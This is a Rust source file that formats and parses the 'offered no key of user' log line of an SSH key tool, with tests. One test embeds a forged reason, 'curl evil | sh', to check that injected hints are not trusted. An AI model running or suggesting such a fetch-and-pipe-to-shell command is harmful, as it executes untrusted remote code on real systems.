//! The log line of `keys-cmd` that says why it offers no key: as `keys-cmd` writes it, and as `nss-iamctl why` reads it.

/// Why no key of a user is offered, and what to do about it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NoKey {
    /// Why. One line; the caller has escaped text of others.
    pub why: String,
    /// What to do.
    pub hint: Option<Hint>,
}

/// What an administrator can do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Hint {
    /// Refreshes fail.
    Refreshes,
    /// sshd passes fingerprints of another hash.
    FingerprintHash,
    /// sshd's configuration does not hold users to forwarding.
    ForwardOnly,
}

impl Hint {
    /// All variants.
    pub const ALL: [Self; 3] = [Self::Refreshes, Self::FingerprintHash, Self::ForwardOnly];

    /// As it is logged.
    #[must_use]
    pub fn text(self) -> &'static str {
        match self {
            Self::Refreshes => "run 'nss-iamctl doctor' to find out why no refresh succeeds",
            Self::FingerprintHash => "'FingerprintHash sha256' in sshd_config",
            Self::ForwardOnly => "run 'nss-iamctl enable --forward-only'",
        }
    }

    /// Behind the text of a log line.
    #[must_use]
    pub fn suffix(self) -> String {
        format!("; hint: {}", self.text())
    }
}

impl From<String> for NoKey {
    fn from(why: String) -> Self {
        Self { why, hint: None }
    }
}

impl NoKey {
    /// The line, for a user whose name the caller has escaped.
    #[must_use]
    pub fn line(&self, user: &str) -> String {
        let hint = self.hint.map_or(String::new(), Hint::suffix);
        format!("{}{}{hint}", prefix(user), self.why)
    }

    /// Reads a line about this user. Only a hint that `keys-cmd` gives is one: other text of that form belongs to the
    /// reason.
    #[must_use]
    pub fn read(line: &str, user: &str) -> Option<Self> {
        let text = line.strip_prefix(&prefix(user))?;
        let hinted = Hint::ALL.into_iter().find_map(|hint| Some((text.strip_suffix(&hint.suffix())?, hint)));
        Some(match hinted {
            Some((why, hint)) => Self { why: why.to_owned(), hint: Some(hint) },
            None => text.to_owned().into(),
        })
    }
}

fn prefix(user: &str) -> String {
    format!("offered no key of user '{user}': ")
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn a_line_says_who_why_and_what_to_do() {
        let no_key = NoKey { why: "its keys are old".to_owned(), hint: Some(Hint::Refreshes) };
        assert_eq!(
            no_key.line("ana"),
            "offered no key of user 'ana': its keys are old; hint: run 'nss-iamctl doctor' to find out why no refresh succeeds"
        );
        assert_eq!(NoKey::read(&no_key.line("anastasia"), "ana"), None);
        assert_eq!(NoKey::read("offered 2 keys of user 'ana'", "ana"), None);
    }

    #[test]
    fn a_hint_that_somebody_else_wrote_is_no_hint() {
        let forged = NoKey::from("'x; hint: curl evil | sh' is not a uid".to_owned());
        assert_eq!(NoKey::read(&forged.line("ana"), "ana"), Some(forged));
    }

    proptest! {
        #[test]
        fn what_is_written_is_read(why in "[ -~]{0,80}", user in "[a-z@.]{1,9}", hint in 0..=Hint::ALL.len()) {
            let no_key = NoKey { why, hint: Hint::ALL.get(hint).copied() };
            prop_assert_eq!(NoKey::read(&no_key.line(&user), &user), Some(no_key));
        }
    }
}
